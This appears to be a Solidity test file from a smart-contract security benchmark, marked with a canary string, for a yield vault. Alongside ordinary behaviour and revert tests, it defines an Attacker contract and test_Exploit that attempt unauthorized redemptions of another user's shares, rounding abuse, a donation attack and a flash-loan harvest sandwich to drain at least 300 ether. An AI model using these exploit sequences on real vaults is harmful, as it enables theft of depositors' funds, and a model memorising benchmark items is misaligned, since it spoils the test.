// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./YieldVault.sol";

// assay-canary-6c30ef67-c658-4953-b25b-d17701802855

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    address private immutable _minter = msg.sender;
    uint256 private _tax;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _minter);
        _mint(to, amount);
    }

    function setTax(uint256 tax) external {
        require(msg.sender == _minter);
        _tax = tax;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        super.transferFrom(from, to, amount);
        _burn(to, _tax);
        return true;
    }
}

contract Source is IYieldSource {
    IERC20 private immutable _coin;
    address public vault;

    constructor(IERC20 coin) {
        _coin = coin;
    }

    function bind(address vault_) external {
        require(vault == address(0));
        vault = vault_;
    }

    function collect() external {
        require(msg.sender == vault);
        _coin.transfer(vault, _coin.balanceOf(address(this)));
    }
}

/// Lends without a fee, for the length of a call.
contract Lender {
    IERC20 private immutable _coin;

    constructor(IERC20 coin) {
        _coin = coin;
    }

    function lend(uint256 amount) external {
        uint256 before = _coin.balanceOf(address(this));
        _coin.transfer(msg.sender, amount);
        Attacker(msg.sender).lent(amount);
        require(_coin.balanceOf(address(this)) >= before, "not given back");
    }
}

contract Attacker {
    YieldVault internal vault;
    Coin internal coin;
    Lender internal lender;

    constructor(YieldVault vault_, Coin coin_, Lender lender_) {
        vault = vault_;
        coin = coin_;
        lender = lender_;
        coin_.approve(address(vault_), type(uint256).max);
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(vault).call(data);
    }

    function _in(uint256 amount) internal {
        _try(abi.encodeCall(vault.depositWithMinimum, (amount, address(this), 0)));
    }

    function _out() internal {
        _try(abi.encodeCall(vault.redeem, (vault.balanceOf(address(this)), address(this), address(this))));
    }

    function run(address other) external {
        // in the place of others
        uint256 shares = vault.balanceOf(other);
        _try(abi.encodeCall(vault.redeem, (shares, address(this), other)));
        _try(abi.encodeCall(vault.withdraw, (1 ether, address(this), other)));
        _try(abi.encodeCall(vault.transferFrom, (other, address(this), shares)));
        _try(abi.encodeCall(vault.setFee, (2000, address(this))));
        _try(abi.encodeCall(vault.rescue, (coin, address(this))));
        _try(abi.encodeCall(vault.transferOwnership, (address(this))));
        // single units
        for (uint256 i = 1; i < 4; ++i) {
            _in(i);
            _try(abi.encodeCall(vault.withdraw, (i, address(this), address(this))));
            _out();
            _try(abi.encodeCall(vault.mint, (i, address(this))));
            _try(abi.encodeCall(vault.redeem, (1, address(this), address(this))));
        }
        _out();
        // a donation in between
        _in(0.25 ether);
        coin.transfer(address(vault), 0.25 ether);
        _out();
        // for the length of one call
        lender.lend(1_000_000 ether);
    }

    function lent(uint256 amount) external {
        _in(amount / 2);
        _try(abi.encodeCall(vault.harvest, ()));
        _try(abi.encodeCall(vault.harvest, ()));
        _in(amount / 4);
        _out();
        _try(abi.encodeCall(vault.harvest, ()));
        if (coin.balanceOf(address(this)) >= amount) coin.transfer(address(lender), amount);
    }

    function later() external {
        _try(abi.encodeCall(vault.harvest, ()));
        _in(coin.balanceOf(address(this)));
        _out();
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant OWNER = address(0x0E);
    address private constant FEES = address(0xFEE);
    address private constant ALICE = address(0xA11CE);
    address private constant BEN = address(0xBE);

    Coin public coin;
    Coin private other;
    Source private source;
    YieldVault private vault;
    Attacker private outsider;

    function setUp() public {
        vm.warp(1_795_000_000);
        coin = new Coin();
        other = new Coin();
        source = new Source(coin);
        vault = new YieldVault(coin, source, OWNER, FEES, 1000, 10_000_000 ether);
        source.bind(address(vault));
        Lender lender = new Lender(coin);
        coin.mint(address(lender), 5_000_000 ether);
        outsider = new Attacker(vault, coin, lender);
        coin.mint(address(outsider), 1 ether);
        coin.mint(ALICE, 20_000 ether);
        coin.mint(BEN, 20_000 ether);
        vm.prank(ALICE);
        coin.approve(address(vault), type(uint256).max);
        vm.prank(BEN);
        coin.approve(address(vault), type(uint256).max);
        vm.prank(ALICE);
        vault.deposit(10_000 ether, ALICE);
        coin.mint(address(source), 1_000 ether);
    }

    function test_Regular() public {
        require(vault.harvest() == 1_000 ether && coin.balanceOf(FEES) == 100 ether, "harvested");
        require(vault.lockedProfit() == 900 ether, "locked");
        vm.warp(block.timestamp + 7 days);
        require(vault.lockedProfit() == 0 && vault.totalAssets() == 10_900 ether, "credited");
        vm.prank(BEN);
        uint256 shares = vault.depositWithMinimum(5_450 ether, BEN, 4_999 ether * 1e6);
        require(shares > 4_999.9 ether * 1e6 && shares < 5_000.1 ether * 1e6, "shares");
        vm.prank(ALICE);
        vault.approve(BEN, 1_000 ether * 1e6);
        vm.prank(BEN);
        vault.transferFrom(ALICE, BEN, 1_000 ether * 1e6);
        vm.prank(BEN);
        vault.transfer(ALICE, 500 ether * 1e6);
        vm.prank(BEN);
        vault.withdraw(1_090 ether, BEN, BEN);
        vm.prank(BEN);
        vault.mint(100 ether * 1e6, BEN);
        shares = vault.balanceOf(ALICE);
        require(shares == 9_500 ether * 1e6, "moved");
        vm.prank(ALICE);
        uint256 back = vault.redeem(shares, ALICE, ALICE);
        require(back > 10_354 ether && back < 10_355.1 ether, "redeemed");

        coin.mint(address(source), 70 ether);
        vm.prank(OWNER);
        vault.setFee(0, FEES);
        vault.harvest();
        vm.warp(block.timestamp + 6 days);
        coin.mint(address(source), 10 ether);
        vault.harvest();
        require(vault.lockedProfit() == 20 ether, "both");
        vm.warp(block.timestamp + 4 days);
        require(vault.lockedProfit() == 0, "after four days on average");

        other.mint(address(vault), 3);
        vm.prank(OWNER);
        vault.rescue(other, BEN);
        require(other.balanceOf(BEN) == 3, "rescued");
        vm.prank(OWNER);
        vault.pauseDeposits(true);
        require(vault.maxDeposit(BEN) == 0 && vault.maxMint(BEN) == 0, "paused");
        vm.prank(OWNER);
        vault.pauseDeposits(false);
        vm.prank(OWNER);
        vault.setDepositCap(1);
        require(vault.maxDeposit(BEN) == 0, "capped");
        vm.prank(OWNER);
        vault.transferOwnership(BEN);
        vm.prank(BEN);
        vault.acceptOwnership();
        require(vault.owner() == BEN, "handed over");
        vm.prank(BEN);
        vault.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    function test_RefusesTerms() public {
        vm.expectRevert(YieldVault.ZeroAddress.selector);
        new YieldVault(IERC20(address(0)), source, OWNER, FEES, 0, 1);
        vm.expectRevert(YieldVault.ZeroAddress.selector);
        new YieldVault(coin, IYieldSource(address(0)), OWNER, FEES, 0, 1);
        vm.expectRevert(YieldVault.ZeroAddress.selector);
        new YieldVault(coin, source, OWNER, address(0), 0, 1);
        vm.expectRevert(abi.encodeWithSelector(YieldVault.FeeTooHigh.selector, 2001));
        new YieldVault(coin, source, OWNER, FEES, 2001, 1);
        vm.prank(OWNER);
        vm.expectRevert(YieldVault.ZeroAddress.selector);
        vault.setFee(1, address(0));
        vm.prank(OWNER);
        vm.expectRevert(abi.encodeWithSelector(YieldVault.FeeTooHigh.selector, 2001));
        vault.setFee(2001, FEES);
    }

    function test_RefusesStrangers() public {
        vm.prank(BEN);
        vm.expectRevert();
        vault.setFee(1, BEN);
        vm.prank(BEN);
        vm.expectRevert();
        vault.setDepositCap(1);
        vm.prank(BEN);
        vm.expectRevert();
        vault.pauseDeposits(true);
        vm.prank(BEN);
        vm.expectRevert();
        vault.rescue(other, BEN);
        vm.prank(OWNER);
        vm.expectRevert(YieldVault.AssetNotRescuable.selector);
        vault.rescue(coin, OWNER);
    }

    function test_RefusesHarvests() public {
        vault.harvest();
        coin.mint(address(source), 1 ether);
        vm.expectRevert(abi.encodeWithSelector(YieldVault.HarvestedRecently.selector, block.timestamp));
        vault.harvest();
        vm.warp(block.timestamp + 1 hours);
        vault.harvest();
        vm.warp(block.timestamp + 1 hours);
        vm.expectRevert(YieldVault.NothingToHarvest.selector);
        vault.harvest();
        uint256 shares = vault.balanceOf(ALICE);
        vm.prank(ALICE);
        vault.redeem(shares, ALICE, ALICE);
        coin.mint(address(source), 1 ether);
        vm.warp(block.timestamp + 1 hours);
        vm.expectRevert(YieldVault.NoShares.selector);
        vault.harvest();
    }

    function test_RefusesDeposits() public {
        uint256 shares = vault.previewDeposit(1 ether);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(YieldVault.TooFewShares.selector, shares, shares + 1));
        vault.depositWithMinimum(1 ether, BEN, shares + 1);
        coin.setTax(1);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(YieldVault.TransferShort.selector, 1 ether - 1, 1 ether));
        vault.deposit(1 ether, BEN);
        vm.prank(OWNER);
        vault.setDepositCap(10_001 ether);
        vm.prank(BEN);
        vm.expectRevert();
        vault.deposit(1 ether + 1, BEN);
        vm.prank(OWNER);
        vault.pauseDeposits(true);
        vm.prank(BEN);
        vm.expectRevert();
        vault.deposit(1, BEN);
    }

    function exploit() public {
        outsider.run(ALICE);
        vm.warp(block.timestamp + 1 hours);
        outsider.later();
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(outsider));
        exploit();
        require(coin.balanceOf(address(outsider)) >= before + 300 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
